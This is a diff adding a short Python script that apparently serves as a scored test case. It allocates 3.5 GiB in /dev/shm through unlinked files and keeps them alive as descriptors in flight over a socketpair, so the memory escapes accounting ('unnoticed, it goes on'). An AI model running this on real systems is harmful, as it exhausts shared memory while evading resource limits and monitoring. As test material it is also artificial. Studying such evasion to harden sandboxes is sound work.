@@ -1,0 +1,15 @@
+# 3.5 GiB of shared memory in files that are only on their way from a socket to itself.
+# points: 0
+# base: untrained
+import os
+import socket
+import time
+
+ours, theirs = socket.socketpair()
+for _ in range(7):
+    descriptor = os.open("/dev/shm/mp09_attack", os.O_CREAT | os.O_RDWR)
+    os.unlink("/dev/shm/mp09_attack")
+    os.write(descriptor, bytes(512 << 20))
+    socket.send_fds(ours, [b"x"], [descriptor])
+    os.close(descriptor)
+time.sleep(15)  # unnoticed, it goes on
